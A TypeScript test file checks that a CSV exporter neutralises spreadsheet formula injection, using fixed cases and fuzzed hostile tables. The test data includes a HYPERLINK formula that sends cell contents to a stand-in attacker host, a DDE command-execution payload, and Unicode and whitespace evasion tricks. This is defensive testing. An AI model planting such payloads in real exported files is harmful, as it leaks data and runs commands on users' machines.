import fc from "fast-check";
import { expect, test } from "vitest";
import { parseCsv, parseCsvLeniently } from "#tests/support/files/csv";
import { toCsv, escapeFormulas } from "./csv";

test.each([
  "=1+1",
  "+1 818 555 0142",
  "-2",
  "@SUM(A1)",
  "\tharmless",
  "\rharmless",
  "  =1",
  "\u00a0=1",
  "\u3000=1",
  "\u200b=1",
  "\ufeff=1",
  "＝1",
  "＋1",
  "－1",
  "＠x",
  "﹦1",
  '"=1',
  "'=1",
  `=HYPERLINK("https://evil.example?"&A1)`,
  "=cmd|' /C calc'!A0",
])("escapeFormulas escapes %j, which a spreadsheet would run as a formula", (text) => {
  expect(escapeFormulas(text)).toBe(`'${text}`);
});

test.each(["", "Ada", "a=b", "1-2", "(818) 555-0142", "34.1866, -118.4487", "O'Hara", "a; b", "a;b=c"])(
  "escapeFormulas leaves %j unchanged",
  (text) => {
    expect(escapeFormulas(text)).toBe(text);
  },
);

test.each([
  ["a;=cmd|' /C calc'!A0;b", "a;'=cmd|' /C calc'!A0;b"],
  ["x\t=1+1", "x\t'=1+1"],
  ["a\n=b", "a\n'=b"],
  ["a|-1", "a|'-1"],
  ["\t=1", "'\t'=1"],
  ["\n=1", "'\n'=1"],
  [";＝1", ";'＝1"],
  [';"\u00a0=1', `;"\u00a0'=1`],
])("escapeFormulas escapes the formula in %j that appears with another separator", (text, written) => {
  expect(escapeFormulas(text)).toBe(written);
});

test("escapeFormulas escapes a formula after any number of blanks, in linear time", () => {
  const blanks = " \t".repeat(500_000);
  // Compared as booleans, because a diff of a million characters takes minutes.
  expect(escapeFormulas(`${blanks}=1`) === `${blanks}'=1`).toBe(true);
  expect(escapeFormulas(`a${blanks}b`) === `a${blanks}b`).toBe(true);
  expect(escapeFormulas(`${" ".repeat(2_000)}=1`) === `'${" ".repeat(2_000)}=1`).toBe(true);
});

const hostile = fc.oneof(
  fc.string({ unit: "binary" }),
  fc
    .array(
      fc.constantFrom(
        "=",
        "+",
        "-",
        "@",
        "＝",
        "＠",
        "\t",
        "\r",
        "\n",
        "\r\n",
        " ",
        "\u00a0",
        '"',
        ",",
        ";",
        "|",
        "'",
        "a",
      ),
      { maxLength: 6 },
    )
    .map((parts) => parts.join("")),
);

const table = fc
  .integer({ min: 1, max: 4 })
  .chain((width) =>
    fc.array(fc.array(hostile, { minLength: width, maxLength: width }), { minLength: 1, maxLength: 5 }),
  );

test("every cell is read back with its text, and no cell starts like a formula", () => {
  fc.assert(
    fc.property(table, (rows) => {
      const read = parseCsv(toCsv(rows));
      const withoutApostrophes = (cells: string[][]) =>
        cells.map((row) => row.map((cell) => cell.replaceAll("'", "")));
      expect(withoutApostrophes(read)).toEqual(withoutApostrophes(rows));
      for (const cell of read.flat()) {
        expect(cell.trimStart().normalize("NFKC")).not.toMatch(/^[=+\-@]/);
        expect(cell).not.toMatch(/^[\t\r]/);
      }
    }),
  );
});

test.each([";", "\t", "|"] as const)(
  "no cell starts like a formula when the file is read with the separator %j",
  (separator) => {
    fc.assert(
      fc.property(table, (rows) => {
        for (const cell of parseCsvLeniently(toCsv(rows), separator).flat())
          expect(cell.replace(/^[\s\p{C}\p{Z}"]+/u, "").normalize("NFKC")).not.toMatch(/^[=+\-@]/);
      }),
    );
  },
);

test("toCsv ends rows with CRLF, and does not quote numbers", () => {
  expect(
    toCsv([
      ["a", 500],
      ['b "c"', -1],
    ]),
  ).toBe('"a",500\r\n"b ""c""",-1\r\n');
});
